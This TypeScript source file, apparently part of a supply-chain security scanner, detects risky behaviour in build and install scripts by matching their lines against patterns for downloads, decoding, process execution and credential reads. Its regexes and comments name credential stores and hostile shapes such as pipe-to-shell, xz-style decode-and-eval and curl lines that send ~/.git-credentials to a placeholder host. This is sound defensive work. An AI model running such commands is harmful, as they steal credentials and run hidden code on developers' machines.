import type { CodeLanguage } from '../code/language.js';
import { codeText } from '../code/code-text.js';
import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
import { LOADED_PROCESS_CALL, SINKS, WHOLE_ENVIRONMENT, jsSinkUnderAnotherName, readsSecretFromEnvironment, secretsGoToTheirOwnHosts } from '../code/sink-rules.js';
import { findPipeToShell } from '../shell/pipe-to-shell.js';
import { GIT_CONFIG_CREDENTIAL } from '../shell/git-credentials.js';
import { CREDENTIAL_HELPERS } from '../shell/credential-helpers.js';
import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
import { pushAll } from '../../push-all.js';
import { encodedOnly, pipeStages, printedCommand, secretForItsOwnPlace, secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
import { escapeRegExp } from '../util.js';

/**
 * What build-time and install-time code does, read from its lines (never run): one engine for
 * Cargo build scripts, setup.py, gemspecs and extconf.rb, binding.gyp command expansions, the
 * files npm install scripts run, Gradle scripts and Maven plugin configuration.
 *
 * Token-level, per line, like the code rules (src/ecosystems/code/): a behavior is a call or a
 * command that does it (a download call, a process call, a read of a credential file, a POST or a
 * socket), not data flow. Every pattern is linear: alternations of fixed tokens, quantifiers that
 * are bounded or followed by a character they cannot match; "X then Y on a line" goes through
 * findPipeToShell or two searches.
 */

export type BehaviorKind =
  /** Fetches something from the network. */
  | 'download'
  /** Runs a process or makes a file executable. */
  | 'execute'
  /** Runs (or makes executable) a file named like data: an image, a font, a log. */
  | 'disguised-binary'
  /** Reads a credential store: SSH keys, cloud, registry and Git credentials, browser logins. */
  | 'credential-file'
  /** Writes a package registry's credential file (`> ~/.npmrc`, `cat > ~/.pypirc <<EOF`, `writeFileSync(…'.npmrc'…)`), naming no other credential store. */
  | 'credential-file-write'
  /** Reads a credential from the environment (`*_TOKEN`, `*_SECRET`, `*_PASSWORD`). */
  | 'credential-env'
  /** Takes the whole environment (`os.environ` as a whole, `env::vars()`, `printenv`), or the values of the variables named like secrets (`compgen -e | grep -i token` and `${!v}`). */
  | 'environment'
  /** Sends data to a host: a POST or upload, a raw socket, a DNS lookup of a built name. */
  | 'send'
  /** Talks to a bare public IP address or a paste, tunnel or webhook service. */
  | 'suspicious-host'
  /** Pipes text into a shell or eval (`... | $SHELL`, `| sh`, `| eval`), not a download's. */
  | 'pipe-to-shell'
  /** Decompresses or decodes data (`xz -d`, `unxz`, `base64 -d`, `$prefix -d`, `uudecode`). */
  | 'decode'
  /** Program code runs text it decoded: `exec(b64decode(…))`, `os.system(base64.b64decode(…))`, a name assigned so and run. */
  | 'run-decoded'
  /**
   * Loads a native library that ships with the code into the process, or has Windows run one
   * (`ctypes.WinDLL(os.path.join(here, 'helper.dll'))`, `process.dlopen(m, path.join(__dirname, …))`,
   * `rundll32 lib\\x.dll,main`): native code no reviewer reads, run at install time.
   */
  | 'native-load'
  /**
   * A CI pipeline's line sends a credential named for one service or product as data (a body, a
   * form) to literal URLs that are not that service's (ReadOptions.credentialNames; pipelines only).
   */
  | 'secret-elsewhere'
  /**
   * A CI pipeline's line prints the whole environment (`env | base64 -w0 | base64 -w0`) or a
   * credential (`echo "$NPM_TOKEN" | base64`) to the job's log through an encoder, where the CI
   * system's masking of secrets no longer recognizes them (printsEncoded; pipelines only).
   */
  | 'printed-encoded';

export interface Behavior {
  readonly kind: BehaviorKind;
  readonly line: number;
  /** The line's code, trimmed and cut short, as evidence. */
  readonly text: string;
  /** For a download: what its URL on the line says of it (downloadSource). */
  readonly source?: DownloadSource;
}

/**
 * What a download's URLs on its line say of it:
 * - `plain-http`: one of them is plain `http://` to a public host (anyone on the path can swap it);
 * - `unpinned`: an HTTPS URL that names no version, or a moving one (`master`, `main`, `HEAD`, `latest`);
 * - `versioned`: every HTTPS URL names a version (`v1.2.3`, `$(KIND_VERSION)`, `${CPM_VERSION}`, a full commit);
 * - `unseen`: no URL on the line (it is in a variable, or on a continuation line), or only local ones.
 * A bare public IP or a paste, tunnel or webhook service is `suspicious-host`, read apart.
 */
export type DownloadSource = 'plain-http' | 'unpinned' | 'versioned' | 'unseen';

/** URLs on a line, up to the first character that cannot be in one unquoted (make's `$(VAR)` may be). */
export const URL_ON_LINE = /\b(?:https?|ftp):\/\/[^\s"'`<>|;&\\]{1,500}/gi;
/**
 * A version in a URL: digits with a dot (`v1.2.3`, `go1.22.1`), a variable named for one
 * (`$(KIND_VERSION)`, `${CPM_DOWNLOAD_VERSION}`, `$(PEBBLE_COMMIT)`), `v` before a variable (`v$*`,
 * a pattern rule's stem), a tag (`/refs/tags/`), or a full commit.
 */
const URL_VERSION = /(?<!\d)\d{1,20}\.\d|\$[({][\w.-]{0,60}(?:version|_ver\b|tag|commit|sha|ref|release)[\w.-]{0,60}[)}]|\bv\$[*({]|\/tags\/|\b[0-9a-f]{40}\b/i;
/** A ref that moves: a branch or `latest`, as a path segment or a word in one. */
const URL_MOVING = /[/=@](?:master|main|head|latest|nightly|trunk|develop|tip)(?=$|[/?#&])|[_-]latest(?=$|[/?#&._-])/i;
/** A host that is this machine or a private network: `http://localhost:9090/-/reload` is not a download from the internet. */
const LOCAL_HOST = /^(?:https?|ftp):\/\/(?:[^/@]{0,200}@)?(?:localhost|127\.|0\.0\.0\.0|\[::1\]|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal)/i;

/** What the URLs on a download's line say of it (DownloadSource). */
export function downloadSource(text: string): DownloadSource {
  let seen = false;
  let unpinned = false;
  for (const match of text.matchAll(URL_ON_LINE)) {
    const url = match[0];
    if (LOCAL_HOST.test(url)) continue;
    if (/^(?:http|ftp):/i.test(url)) return 'plain-http';
    seen = true;
    if (URL_MOVING.test(url) || !URL_VERSION.test(url)) unpinned = true;
  }
  return !seen ? 'unseen' : unpinned ? 'unpinned' : 'versioned';
}

export interface SourceLine {
  readonly line: number;
  readonly text: string;
}

/**
 * How a file's lines are read: a programming language, `xml` (Maven) and `gyp` (binding.gyp), or
 * `cmake` and `meson`, whose calls build-calls.ts reads (their command arguments as shell lines);
 * a line of theirs outside a command is read here only for credential files, secret names and hosts.
 * `msbuild` files are read by msbuild.ts: their commands as shell lines, the C# of their inline
 * tasks as `csharp`. `swift` is SwiftPM's `Package.swift`, a Swift program.
 */
export type BuildLanguage = CodeLanguage | 'xml' | 'gyp' | 'cmake' | 'meson' | 'msbuild' | 'csharp' | 'swift';

type Patterns = Partial<Record<BuildLanguage | 'any', RegExp>>;

/**
 * Commands that fetch from the network, in any language (a shell line, a string handed to a shell).
 * `curl` and `wget` are the tools, not a host or a path named after them (`https://curl.se/`,
 * `curl/curl.h`, `www.wget.org`); `curl.exe` is the tool.
 */
const DOWNLOAD: Patterns = {
  // PowerShell and Windows forms too: `iwr`/`irm` (Invoke-WebRequest/-RestMethod), WebClient's
  // DownloadString/DownloadFile, `bitsadmin /transfer`, `certutil -urlcache`, `mshta <url>`.
  any: /(?<![.@]|:\/\/)\b(?:curl|wget)\b(?!\.(?!exe\b)\w|\/\w)|\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|Start-BitsTransfer|Net\.WebClient)\b|\birm\s+(?:-\w{1,20}\s+){0,4}["']?https?:|\.Download(?:String|File|Data)(?:Async)?\s*\(|\bcertutil\b.{0,40}-urlcache|\bbitsadmin\b.{0,60}\/transfer\b|\bmshta(?:\.exe)?\s+["']?https?:|\bgit\s+clone\s+https?:/i,
  python: /\burl(?:open|retrieve)\s*\(|\b(?:requests|httpx)\.get\s*\(|\burllib3\.PoolManager\b|\bhttp\.client\.HTTPS?Connection\b/,
  rust: /\breqwest::(?:blocking::)?(?:get|Client)\b|\bureq::(?:get|agent)\b|\b(?:attohttpc|minreq)::get\b|\bcurl::easy\b/,
  ruby: /\bURI\.open\b|\bopen-uri\b|\bNet::HTTP\.(?:get|get_response|start)\b|\bopen\s*\(\s*["']https?:/,
  // The module's call also on its require (`require('https').get(url, …)`, `require("node:http").request(`).
  js: /\bhttps?\.get\s*\(|\brequire\s*\(\s*["'](?:node:)?https?["']\s*\)\s*\.(?:get|request)\s*\(|\bfetch\s*\(\s*["'`]https?:|\b(?:axios|got|needle|superagent)\.get\s*\(|\brequire\s*\(\s*["'](?:download|node-fetch|got|axios|request)["']\s*\)/,
  // Kotlin's `URI("https://…").toURL().readText()` as well as Java's `new URL(…)`.
  java: /\bapply\s*(?:\(\s*)?from\s*[:=]\s*["']https?:|\bnew\s+URL\s*\(|\bURI(?:\.create)?\s*\(\s*["']https?:[^"'\n]{0,300}["']\s*\)\s*\.toURL\s*\(|\bURL\s*\(\s*["']https?:|\.openStream\s*\(|\bopenConnection\s*\(|\b(?:ant\.)?get\s*\(\s*src\s*:|\bdownload\.run\b|\bdownload\s*\{|\bde\.undercouch\.download\b|\bHttpClient\b/,
  go: /\bhttp\.Get\s*\(|\bgrab\.Get\s*\(/,
  php: /\bfile_get_contents\s*\(\s*["']https?:|\bcurl_exec\s*\(/,
  xml: /<get\s+src=|\b(?:download-maven-plugin|maven-download-plugin)\b|<goal>wget<\/goal>/,
  // The calls that fetch, not the types: `new WebClient()` alone downloads nothing.
  swift: /\bURLSession\b[^\n]{0,200}\.(?:data|download)(?:Task)?\s*\(|\b(?:Data|String)\s*\(\s*contentsOf\s*:\s*URL\s*\(/,
  csharp: /\.Download(?:String|File|Data)(?:Async|TaskAsync)?\s*\(|\.Get(?:Async|StreamAsync|ByteArrayAsync|StringAsync)\s*\(|\bWebRequest\.Create(?:Http)?\s*\(/,
};

/**
 * Whether a line of program code fetches from the network with its language's own calls
 * (`requests.get(`, `urlopen(`, `fetch('https://…')`, `http.Get(`, `URI.open`): the text a code sink
 * of the same hunk may run. Command-line tools named in a string are not such a call.
 */
export function downloadsInCode(code: string, language: CodeLanguage): boolean {
  return DOWNLOAD[language]?.test(code) === true;
}

/** Whether a command text (a shell line) fetches from the network: curl, wget, PowerShell's and Windows' downloaders. */
export function downloadsInCommand(code: string): boolean {
  return DOWNLOAD.any?.test(code) === true;
}

/** Process calls beyond the code rules' sinks (a build script runs its tools without a shell). */
const EXECUTE: Patterns = {
  // PowerShell's `iex` (Invoke-Expression) runs text; Windows runs DLLs and scripts with rundll32,
  // regsvr32, mshta, wscript and cscript, and commands with `cmd /c`.
  // `iex` as PowerShell writes it (`| iex`, `iex (...)`, `iex $code`), not Elixir's `iex -S mix`.
  any: /\bchmod\s+(?:[ugoa]*\+[rw]*x|[0-7]{0,2}[1357][0-7]{0,2}\b)|\b(?:powershell|pwsh|Start-Process|Invoke-Expression|rundll32|regsvr32|mshta|wscript|cscript)\b|\|\s*iex\b|\biex\s*[($]|\bcmd(?:\.exe)?\s+\/[ck]\b/i,
  // exec/eval of text runs it too: alone it is setup.py's ordinary `exec(open('pkg/version.py').read())`,
  // beside a download it runs what was downloaded.
  // The process modules loaded by name or their calls looked up by name run a process too:
  // `__import__("os").system(…)`, `importlib.import_module("subprocess").run(…)`, `getattr(os, "sys" + "tem")(…)`.
  python:
    /\bsubprocess\.(?:run|call|check_call|check_output|Popen)\s*\(|\bos\.(?:chmod|startfile)\s*\(|\b(?:repository_ctx|rctx|module_ctx|mctx|ctx)\.execute\s*\(|(?<![.\w])(?:exec|eval)\s*\(|\b(?:__import__|importlib\.import_module)\s*\(\s*["'](?:os|subprocess|pty|commands)["']\s*\)\s*\.\s*(?:system|popen|exec\w{0,4}|spawn\w{0,4}|run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(|\bgetattr\s*\(\s*(?:os|subprocess|pty)\s*,[^)\n]{1,120}\)\s*\(/,
  rust: /\bset_permissions\s*\(|\bPermissionsExt\b/,
  // eval of text (Kernel's, or instance_eval/class_eval given a string, not a block): beside a
  // download it runs what was downloaded, as Python's exec does (`eval(URI.open(url).read)` in a Gemfile).
  ruby: /`|\bFile\.chmod\b|\bFileUtils\.chmod\b|(?<![.\w:])eval\s*[('"]|\bKernel\.eval\b|\b(?:instance|class|module)_eval\s*\((?!\s*&)/,
  js: /\bfs\.chmod(?:Sync)?\s*\(|\bexeca\b/,
  // Scala's sys.process in sbt builds: `"cmd".!`, `"cmd".!!`, `"a" #| "b" !`, `Process("…")`.
  java: /\bexec\s*\{|\bcommandLine\b|\.execute\s*\(\s*\)|\bExec\b|\bsetExecutable\s*\(\s*true|\bapply\s*(?:\(\s*)?from\s*[:=]\s*["']https?:|["')]\s*\.\s*!!?(?![=\w])|["')]\s+!!?\s*$|\s#\|\s|\bsys\.process\b|\bProcess\s*\(\s*(?:["']|Seq\b)/,
  // Swift's Foundation Process (`Process()`, `executableURL`, `launchPath`) and C's system().
  swift: /\bProcess\s*\(\s*\)|\.executableURL\b|\.launchPath\b|(?<![.\w])system\s*\(/,
  xml: /<executable>|<exec\s|\bexec-maven-plugin\b|<goal>exec<\/goal>|\b(?:gmavenplus|groovy-maven)-plugin\b/,
  gyp: /<!@?\(|["']action["']\s*:/,
  csharp: /\bProcess\.Start\s*\(|\bProcessStartInfo\b|\bAssembly\.Load(?:From|File)?\s*\(/,
};

/**
 * Text piped into a shell or `eval` on a shell line: `| $SHELL`, `| ${SHELL}`, `| sh`, `| /bin/bash`,
 * `| eval`. A download piped to a shell is findPipeToShell's (download and execute).
 */
const PIPE_INTO_SHELL = /\|\s*(?:\$[({]?(?:CONFIG_)?SHELL[)}]?|(?:\/usr)?(?:\/bin\/)?(?:ba|da|k|z)?sh|eval)(?=$|[\s;&|)\]`'"])/;
/** Text piped into an interpreter that runs what it reads: `| python3`, `| sudo perl`, `| node`. */
const PIPE_INTO_INTERPRETER = /\|\s*(?:sudo\s+)?(?:python[23]?|perl|ruby|node)(?![\w.-])/;

/**
 * Whether a shell line pipes text into a shell, `eval` or an interpreter (PIPE_INTO_SHELL and
 * PIPE_INTO_INTERPRETER): with a decode in the same hunk, a decoded payload run
 * (scan-code-changes.ts, `obfuscated-code` in shell scripts).
 */
export function pipesIntoInterpreter(code: string): boolean {
  return PIPE_INTO_SHELL.test(code) || PIPE_INTO_INTERPRETER.test(code);
}

/** A shell line's decoded output written to a file: the file in group 1 (`… | base64 -d > /tmp/run.sh`, `base64 --decode payload.b64 > x`). */
const DECODED_TO_FILE = /\b(?:base64|base32|basenc|uudecode|xxd)\s+(?:-[\w-]{1,20}\s+){0,4}(?:-[a-ce-z]{0,6}[dr][a-z]{0,6}|--decode|--revert)\b[^|;&>\n]{0,200}>\s*["']?([\w./~$-]{1,200})/;
/** A decoding command (as DECODED_TO_FILE's), up to its end: what decodedOutputOption reads. */
const DECODING_COMMAND = /\b(?:base64|base32|basenc|uudecode|xxd)\s+(?:-[\w-]{1,20}\s+){0,4}(?:-[a-ce-z]{0,6}[dr][a-z]{0,6}|--decode|--revert)\b[^|;&\n]{0,300}/;
/** A decoder's output file given as an option (`base64 -d -o cert.p12 x`, `--output=x`, macOS's `base64 -D -i in -o out`, `uudecode -o x`): group 1. */
const DECODED_OUTPUT_OPTION = /\s(?:-o|--output)(?:=|\s{1,10})["']?([\w./~${}-]{1,200})/;
/** `xxd -r [-p] in out`: the reverted bytes written to the second file (group 1). */
const XXD_REVERT_TO_FILE = /\bxxd\s{1,10}(?:-[a-z]{1,4}\s{1,10}){1,4}["']?[\w./~${}-]{1,200}["']?\s{1,10}["']?([\w./~${}-]{1,200})/;

/**
 * The file a decoding command writes by its own option rather than a redirect (`base64 -d -o
 * /tmp/s.sh x`, `base64 --decode --output=x`, `xxd -r -p stage.hex /tmp/stage`), read in `command`
 * (the text from the decode on), or null.
 */
export function decodedOutputOption(command: string): string | null {
  return DECODED_OUTPUT_OPTION.exec(command)?.[1] ?? XXD_REVERT_TO_FILE.exec(command)?.[1] ?? null;
}

/**
 * The files a shell line writes decoded text to (DECODED_TO_FILE), and whether a line runs one of
 * them (`bash /tmp/run.sh`, `sh x`, `source x`, `. x`, `chmod +x x`, `chmod 755 x`, `./x`, `python3 x`; not `chmod 600
 * key`, which sets no execute bit): with both in
 * one hunk, a payload decoded to disk and run (the reviewdog install.sh shape, written in two steps).
 * A secret or keystore decoded into a file (`base64 -d > release.jks`) and not run is not one.
 */
export function decodedFileOf(code: string): string | null {
  const redirected = DECODED_TO_FILE.exec(code)?.[1];
  if (redirected !== undefined) return redirected;
  const command = DECODING_COMMAND.exec(code)?.[0];
  return command === undefined ? null : decodedOutputOption(command);
}

export function runsFile(code: string, file: string): boolean {
  // The file named with or without its `./` (the pattern's `(?:\.\/)?` reads both), escaped once.
  const name = escapeRegExp(file.startsWith('./') ? file.slice(2) : file);
  const run = new RegExp(`(?:^|[;&|(]\\s*|\\b(?:sudo\\s+)?(?:bash|sh|dash|zsh|ksh|source|python[23]?|perl|ruby|node|pwsh)\\s+(?:-[a-z]{1,4}\\s+)?|(?:^|[;&|(]\\s*)\\.\\s+|\\bchmod\\s+(?:[ugoa]*\\+x|[0-7]?(?:[1357][0-7]{2}|[0-7][1357][0-7]|[0-7]{2}[1357]))\\s+)["']?(?:\\.\\/)?${name}["']?(?=$|[\\s;&|)])`);
  return run.test(code.length > 2000 ? code.slice(0, 2000) : code);
}

/** PowerShell's `... | iex` and `iex (...)`: text it built run as code. */
const PIPE_INTO_POWERSHELL = /\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\s*\(/i;

/**
 * Decompressing or decoding on a shell line: the decompressors' decode flags, their cat and un-
 * forms, base64 and uudecode, openssl's decryption, and a program held in a variable run with
 * `-d` (`$gl_[$1]_prefix -d`, the xz-utils backdoor's `xz -d` behind a variable; m4 quoting
 * allowed in the name). Options before the decode flag may take a value (`xz -F raw --lzma1 -dc`).
 */
const DECODE =
  /\bcertutil(?:\.exe)?\s+-decode(?:hex)?\b|\bFromBase64String\b|\b(?:xz|lzma|lzip|gzip|bzip2|zstd|brotli|base64|base32|basenc)\s+(?:-[\w-]{1,20}\s+(?:[a-z0-9][\w.=,]{0,20}\s+)?){0,4}(?:-[a-ce-z]{0,6}d[a-z]{0,6}|--decode|--decompress|--uncompress)\b|\b(?:unxz|unlzma|gunzip|zcat|xzcat|lzcat|bzcat|zstdcat|uudecode)\b|\bopenssl\s+(?:enc\s+)?\S{0,40}\s-d\b|\$\{?(?![\w[\]$]{0,60}(?:INSTALL|MKDIR|install|mkdir))[\w[\]$]{1,60}\}?\s+-d\b/;

/**
 * A byte-substitution cipher in `tr`: octal byte ranges mapped onto others (`tr "\5-\51\204-\377"
 * "\0-\377"`, the xz-utils stage) or rot13 (`tr 'A-Za-z' 'N-ZA-Mn-za-m'`). A case change (`tr a-z
 * A-Z`) or a deletion (`tr -d '\r'`) is not one.
 */
const TR_CIPHER = /\btr\s+(?:-[a-z]{1,3}\s+)?["']?\\[0-7]{1,3}-\\[0-7]{1,3}|\btr\s+(?:-[a-z]{1,3}\s+)?["']?(?:A-Za-z|a-zA-Z|A-Z|a-z)["']?\s+["']?(?:N-ZA-M|n-za-m)/;

/**
 * The start of a command's output handed to a shell as code, the substitution's opener in group 1
 * or 2: `eval "$(…)"`, ``eval `…` ``, `sh -c "$(…)"`, `bash -ec "$(…)"`, an interpreter's inline
 * program, `python3 -c "$(…)"`, `perl -e` (make's `$$(` too); and a
 * process substitution given as the script, `source <(…)`, `. <(…)`, `bash <(…)`.
 */
const RUN_SUBSTITUTION = /(?:\beval|\b(?:ba|da|k|z)?sh\s+(?:-[a-z]{1,4}\s+){0,3}-[a-z]{0,4}c|\b(?:python[23]?|perl|ruby|node)\s+-[ce])\s+["']?(\$\$?\(|`)|(?:^|[\s;&|(])(?:source|\.|(?:ba|da|k|z)?sh)\s+(<\()/g;
/** Characters of a substitution read at most, and substitutions read on one line at most. */
const MAX_SUBSTITUTION = 4000;
const MAX_SUBSTITUTIONS = 20;

/** The text of the substitution opened at `from` (after `$(`, `<(` or a backtick): to its closing `)` or backtick, or the line's end. */
function substitutionBody(code: string, from: number, backtick: boolean): string {
  const limit = Math.min(code.length, from + MAX_SUBSTITUTION);
  let depth = 1;
  for (let i = from; i < limit; i += 1) {
    const c = code.charAt(i);
    if (backtick) {
      if (c === '`' && code.charAt(i - 1) !== '\\') return code.slice(from, i);
    } else if (c === '(') depth += 1;
    else if (c === ')') {
      depth -= 1;
      if (depth === 0) return code.slice(from, i);
    }
  }
  return code.slice(from, limit);
}

/** A decode's output redirected to a file (`> manual.txt`, `>> x`; not `2>`, `&>`): the file in group 1. */
const REDIRECT_TO_FILE = /(?<![\d&])>{1,2}\s*["']?([\w./~${}()@+-]{1,200})/;
/** A decode's output piped into a tool that reads data: an archiver, a database client, gpg, a comparison. */
const PIPED_TO_DATA_TOOL = /\|\s*(?:sudo\s+)?(?:tar|bsdtar|cpio|unzip|gpg|gpg2|psql|mysql|mariadb|sqlite3|mongorestore|pg_restore|dd|patch|cmp|diff|sha\d{1,3}sum|md5sum|wc|head|tail|jq|xmllint|hexdump|od|xxd|file|docker\s+load|podman\s+load)\b/;

/**
 * Where a shell line's decoded text goes when it is not run on the line: the file it is written to,
 * `'tool'` when it is piped into a tool that reads data, or null (to standard output, or nowhere the
 * line shows: it may be what a shell runs).
 */
function decodedTarget(code: string): string | null {
  const at = code.search(DECODE);
  const after = at < 0 ? code : code.slice(at);
  const file = REDIRECT_TO_FILE.exec(after)?.[1];
  if (file !== undefined && !file.startsWith('/dev/')) return file.replace(/["'{}]/g, '');
  return PIPED_TO_DATA_TOOL.test(after) ? 'tool' : null;
}

/**
 * Whether a shell line runs as code what a command substitution decodes, decompresses or deciphers:
 * `` eval `sed … tests/files/good-3.xz | tr "\t \-_" " \t_\-" | xz -d` ``, `eval "$(dd if=bad-2.xz
 * bs=1 skip=1024 | xz -d)"`, `sh -c "$(base64 -d payload.b64)"`, `source <(openssl enc -d -in x.enc)`:
 * the xz-utils backdoor's shape (CVE-2024-3094) without a pipe into the shell. A tool's own set-up
 * (`eval "$(ssh-agent -s)"`, `source <(kubectl completion bash)`) decodes nothing.
 */
export function runsDecodedSubstitution(code: string): boolean {
  if (!code.includes('(') && !code.includes('`')) return false;
  RUN_SUBSTITUTION.lastIndex = 0;
  let read = 0;
  for (let m = RUN_SUBSTITUTION.exec(code); m !== null && read < MAX_SUBSTITUTIONS; m = RUN_SUBSTITUTION.exec(code)) {
    read += 1;
    const body = substitutionBody(code, RUN_SUBSTITUTION.lastIndex, m[1] === '`');
    if (DECODE.test(body) || TR_CIPHER.test(body)) return true;
  }
  return false;
}

/**
 * A decoder of text in program code: base64, base32, hex and their kin in Python, Node, Ruby, PHP,
 * Go, Rust and Java (`base64.b64decode(`, `Buffer.from(…, 'base64')`, `atob(`, `Base64.decode64`,
 * `base64_decode(`, `hex.DecodeString`, `Base64.getDecoder()`). Decompressors are not: unpacking
 * data is ordinary build work.
 */
const PROGRAM_DECODE =
  /\b(?:b(?:64|32|16|85)decode|a2b_base64|unhexlify|decodebytes|base64_decode|hex2bin|decode64|strict_decode64|urlsafe_decode64|DecodeString)\s*\(|\bbytes\.fromhex\s*\(|\bcodecs\.decode\s*\(|(?<![.\w$])atob\s*\(|\bBuffer\.from\s*\(\s*(?:"[^"\n]*"|'[^'\n]*'|`[^`\n]*`|[\w.$[\]]{1,100})\s*,\s*["'`](?:base64|base64url|hex)["'`]|\bBase64\.get(?:Mime|Url)?Decoder\s*\(|\bbase64::decode\b|\b(?:STANDARD|URL_SAFE)(?:_NO_PAD)?\.decode\s*\(|\.unpack1?\s*\(\s*["']m0?["']|\.decode(?:Base64|Hex)\s*\(/;
/** A name assigned on a line (`payload = …`, `const payload = …`, `$payload = …`, `payload := …`, `let mut s = …`, `def c = …`): group 1. */
const ASSIGNED_NAME = /^\s*(?:(?:const|let|var|my|val|local|def|final|String)\s+)?(?:mut\s+)?\$?([A-Za-z_]\w{0,60})\s*(?::\s*[\w<>[\], .]{1,60})?:?=(?!=)/;

/** C# inline tasks: the whole environment, base64 decoding. */
const CSHARP_WHOLE_ENVIRONMENT = /\bEnvironment\.GetEnvironmentVariables\s*\(\s*\)/;
const CSHARP_DECODE = /\bConvert\.FromBase64String\b/;

/**
 * Files that hold credentials, and the commands that print a stored credential: the developer
 * tools' credential helpers (CREDENTIAL_HELPERS: `gh auth token`, `gcloud auth
 * print-access-token`, `npm config get …:_authToken`, `aws configure get aws_secret_access_key`, …),
 * macOS's keychain, git's stored credentials (GIT_CONFIG_CREDENTIAL): the s1ngularity payload of the
 * Nx compromise (August 2025) took the GitHub CLI's token so.
 */
const CREDENTIAL_FILE_NAMED =
  /\bsecurity\s+(?:find-(?:generic|internet)-password|dump-keychain)\b|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|\.npmrc\b|\.pypirc\b|\.netrc\b|\.git-credentials\b|\.docker\/config\.json|\.kube\/config|\.gnupg\b|\.cargo\/credentials|\.gem\/credentials|\.config\/gh\/hosts|\/etc\/(?:passwd|shadow)\b|\bwallet\.dat\b|Login Data|\.bash_history\b|\.m2\/settings\.xml|\.gradle\/gradle\.properties|Local State|\bkeychain\b/i;
const CREDENTIAL_FILE = new RegExp([...CREDENTIAL_HELPERS.map((h) => h.pattern.source), CREDENTIAL_FILE_NAMED.source, GIT_CONFIG_CREDENTIAL.source].join('|'), 'i');

/**
 * The commands that print a service's token, each with the hosts of that service (the helpers'
 * own hosts): the token used with its own service (`curl -H "Authorization: Bearer $(gh auth
 * token)" https://api.github.com/…`, `aws ecr get-login-password | docker login --password-stdin
 * 1234.dkr.ecr.us-east-1.amazonaws.com`) is how developer tools authenticate, not a theft.
 */
const TOKEN_COMMAND_SERVICES: readonly (readonly [RegExp, RegExp])[] = CREDENTIAL_HELPERS.flatMap((h) => (h.ownHosts === null ? [] : [[new RegExp(h.pattern.source, 'gi'), h.ownHosts] as const]));
/** A literal URL's host, or the registry a `docker login` (or podman's, helm's) names: group 1 or 2. */
const LINE_URL_HOST = /\bhttps?:\/\/([A-Za-z0-9.-]{1,253})|\b(?:docker|podman|buildah|helm\s+registry)\s+login\b[^|;&\n]{0,200}?\s([A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,8})(?=\s|$|["'])/g;

/**
 * Whether the credential stores a line names are only service tokens printed by their CLI (`gh auth
 * token`), and every literal URL of the line (one at least) is of that token's service.
 */
function tokenForItsOwnService(code: string): boolean {
  let rest = code;
  const services: RegExp[] = [];
  for (const [command, service] of TOKEN_COMMAND_SERVICES) {
    const next = rest.replace(command, ' ');
    if (next !== rest) services.push(service);
    rest = next;
  }
  if (services.length === 0 || CREDENTIAL_FILE.test(rest)) return false;
  const hosts = [...code.matchAll(LINE_URL_HOST)].map((m) => m[1] ?? m[2] ?? '');
  return hosts.length > 0 && hosts.every((host) => services.some((service) => service.test(host)));
}

/** A command substitution (`$(…)`, a recipe's `$$(…)`, backquotes) whose command reads a credential store, on a line that makes a request (curl, wget). */
const SUBSTITUTION = /\$\$?\(([^()\n]{1,200})\)|`([^`\n]{1,200})`/g;
const REQUEST_COMMAND = /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|http|https)\b/i;

/**
 * Whether a command line puts a stored credential into a request (`curl "https://h/?t=$(gh auth
 * token)"`, `curl -H "X-T: $(cat ~/.git-credentials)" https://h`): a GET carries its URL and headers
 * to the host as surely as a POST's body. Not a service's token given to that service.
 */
export function credentialSubstitutedIntoRequest(code: string): boolean {
  if (!REQUEST_COMMAND.test(code) || !code.includes('://')) return false;
  for (const m of code.matchAll(SUBSTITUTION)) {
    if (CREDENTIAL_FILE.test(m[1] ?? m[2] ?? '')) return !tokenForItsOwnService(code);
  }
  return false;
}


/** The credential files of package registries: npm's, PyPI's, RubyGems', Cargo's. */
const REGISTRY_CREDENTIAL_FILE = String.raw`(?:\.npmrc|\.pypirc|\.gem\/credentials|\.cargo\/credentials(?:\.toml)?)\b`;
/**
 * A write into a registry's credential file, the file its target: a shell redirect or `tee`
 * (`echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > ~/.npmrc`, `cat > ~/.pypirc <<EOF`), or a
 * write call of a program naming it (`fs.writeFileSync(…'.npmrc'…)`, `open(…'.pypirc'…, 'w')`,
 * `File.write(…)`, `fs::write(…)`).
 */
const CREDENTIAL_FILE_WRITE = new RegExp(
  String.raw`(?:>>?|\btee(?:[ \t]+-a)?)[ \t]*["']?[^\s"'|;&<>()]{0,200}${REGISTRY_CREDENTIAL_FILE}` +
    String.raw`|\b(?:writeFileSync|writeFile|appendFileSync|appendFile|outputFileSync|outputFile|createWriteStream|File\.write|fs::write)\s*\(?[^\n]{0,300}?${REGISTRY_CREDENTIAL_FILE}` +
    String.raw`|\b(?:open|File\.open)\s*\([^\n]{0,300}?${REGISTRY_CREDENTIAL_FILE}[^\n]{0,100}?,\s*(?:mode\s*=\s*)?["'][wa]\+?b?["']`,
  'gi',
);

/**
 * Whether a line writes a registry's credential file and names no credential store but the one it
 * writes: the release task that writes the token it publishes with, not a read of a credential.
 */
export function writesRegistryCredentialFile(code: string): boolean {
  const rest = code.replace(CREDENTIAL_FILE_WRITE, ' ');
  return rest !== code && !CREDENTIAL_FILE.test(rest);
}

/** Whether a line names a credential store or prints a stored credential (CREDENTIAL_FILE: `~/.npmrc`, `.aws/credentials`, `gh auth token`). */
export function readsCredentialStore(text: string): boolean {
  return CREDENTIAL_FILE.test(text) && !tokenForItsOwnService(text);
}

/** Sending data out. */
const SEND: Patterns = {
  // Jenkins' HTTP Request plugin: `httpRequest url: …, httpMode: 'POST', requestBody: …`; PowerShell's
  // `Invoke-RestMethod -Method Post`, `-Body …`, `-InFile f`.
